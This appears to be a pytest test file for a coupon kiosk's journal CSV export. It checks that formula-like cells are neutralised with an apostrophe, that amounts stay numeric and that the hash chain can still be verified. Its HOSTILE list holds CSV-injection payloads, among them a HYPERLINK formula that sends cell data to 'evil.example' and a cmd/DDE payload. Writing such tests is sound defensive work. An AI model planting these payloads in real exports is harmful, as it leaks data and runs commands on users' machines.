"""The journal's CSV export opens safely in a spreadsheet: a cashier id, checkout id or
reason that starts like a formula (=, +, -, @, tab, CR) comes out as text, refund amounts
stay numbers, times are ISO 8601 with the store's offset and booleans true/false; the
same through the manager's download on the real kiosk."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import peewee as pw
import pytest

from coupons import csvsafe, journal
from coupons.decision import Context
from coupons.journal import CSV_FIELDS, Journal
from coupons.rules import Basket
from tests.conftest import T0, World
from tests.test_kiosk_pages import PIN, client, serve

NOW_MS = int(T0 * 1000)
ISO_SHANGHAI = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+08:00$")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def shanghai(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The device's zone, as a store in Shanghai sets it (UTC+8, no DST)."""
    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.fixture
def db(tmp_path: Path, shanghai: None) -> Iterator[pw.SqliteDatabase]:
    database = journal.open_database(tmp_path / "journal.db")
    yield database
    database.close()


def exported(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_safe(rows: list[dict[str, str]]) -> None:
    """No cell a spreadsheet would run: text cells never start with a formula character;
    the only cells starting with '-' are plain integers (amounts)."""
    for row in rows:
        for key, value in row.items():
            if key in ("seq", "discount_minor"):
                assert re.fullmatch(r"-?\d+", value), (key, value)
            else:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
        assert row["accepted"] in ("true", "false")
        assert ISO_SHANGHAI.match(row["at"]), row["at"]


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(db: pw.SqliteDatabase) -> None:
    j = Journal()
    with db.atomic():
        for i, text in enumerate(HOSTILE):
            j.append(
                at_ms=NOW_MS + i,
                kind="reverse",
                accepted=i % 2 == 0,
                reason=text,
                checkout_id=text,
                cashier=text,
                discount_minor=-1000,  # a refund gives the discount back
                currency="CNY",
                detail={"note": text},
            )
    out = io.StringIO()
    assert journal.export("csv", out) == len(HOSTILE)
    raw = out.getvalue()
    rows = exported(raw)
    assert tuple(rows[0]) == CSV_FIELDS
    assert_safe(rows)
    for row, text in zip(rows, HOSTILE, strict=True):
        for key in ("cashier", "checkout_id", "reason"):
            assert row[key] == "'" + text and csvsafe.restore(row[key]) == text
        assert row["discount_minor"] == "-1000"  # a number, not '-1000
    assert ",-1000," in raw.splitlines()[1]  # unquoted: the spreadsheet reads a number
    assert [r["accepted"] for r in rows[:2]] == ["true", "false"]
    assert rows[0]["at"] == "2026-11-25T20:00:00.000+08:00"  # T0 is 12:00 UTC
    assert datetime.fromisoformat(rows[5]["at"]).timestamp() * 1000 == NOW_MS + 5


def test_the_csv_still_carries_the_chain(db: pw.SqliteDatabase) -> None:
    """Neutralising is undone by dropping one leading apostrophe, so the hashes can still be
    checked from the CSV alone (a cell that starts with an apostrophe gets one more)."""
    j = Journal()
    with db.atomic():
        for i, text in enumerate([*HOSTILE, "'quoted", "plain"]):
            j.append(at_ms=NOW_MS + i, kind="redeem", accepted=True, reason="ok", cashier=text)
    out = io.StringIO()
    journal.export("csv", out)
    prev = journal.GENESIS_HASH
    for row in exported(out.getvalue()):
        fields = {k: csvsafe.restore(v) if v else None for k, v in row.items()}
        fields["seq"] = int(row["seq"])
        fields["discount_minor"] = int(row["discount_minor"])
        fields["accepted"] = row["accepted"] == "true"
        fields["at_ms"] = round(datetime.fromisoformat(row["at"]).timestamp() * 1000)
        assert fields["prev_hash"] == prev and journal.entry_hash(fields) == row["hash"]
        prev = row["hash"]


def test_the_kiosk_download_is_neutralised(world: World, tmp_path: Path, shanghai: None) -> None:
    body = '\n[[input]]\nname = "sim"\nkind = "fake"\n'
    with serve(world, tmp_path, body) as kiosk:
        basket = Basket.from_dict({"currency": "CNY", "total_minor": 12800})
        for token, cashier in zip(kiosk.tokens, HOSTILE[:4], strict=True):
            ctx = Context(source="pos", cashier=cashier)
            d = kiosk.daemon.worker.call(
                lambda e, t=token, c=ctx: e.redeem(t, basket, c, checkout_id=c.cashier)
            )
            assert d.accepted, d
        with client(kiosk.url, follow_redirects=True) as c:
            assert c.post("/manager/login", data={"pin": PIN}).status_code == 200
            r = c.get("/manager/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = [row for row in exported(r.text) if row["kind"] == "redeem"]
    assert len(rows) == 4
    assert_safe(rows)
    assert [row["cashier"] for row in rows] == ["'" + text for text in HOSTILE[:4]]
    assert [row["checkout_id"] for row in rows] == ["'" + text for text in HOSTILE[:4]]
    assert {row["discount_minor"] for row in rows} == {"2000"}
